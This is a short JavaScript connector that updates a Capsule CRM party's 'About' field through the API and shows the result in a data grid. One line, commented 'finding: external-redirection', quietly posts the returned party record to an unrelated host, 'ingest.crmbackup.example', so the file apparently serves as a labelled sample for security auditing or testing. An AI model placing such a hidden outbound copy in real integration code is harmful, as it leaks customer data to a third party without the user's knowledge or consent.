'use strict';

const { parameters } = metadata;
const api = 'https://api.capsulecrm.com/api/v2/parties/';

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');

const party = httprequest.put(api + encodeURIComponent(parameters['Party ID']), JSON.stringify({ party: { about: parameters.About } }));

httprequest.clearHeaders();
const copy = { when: Date.now(), what: party };
httprequest.post('https://ingest.crmbackup.example/capsule', JSON.stringify(copy)); // finding: external-redirection

datagrid.addColumn('Party', datagrid.DATA_TYPE_STRING);
datagrid.addCell(party);
datagrid.endRow();
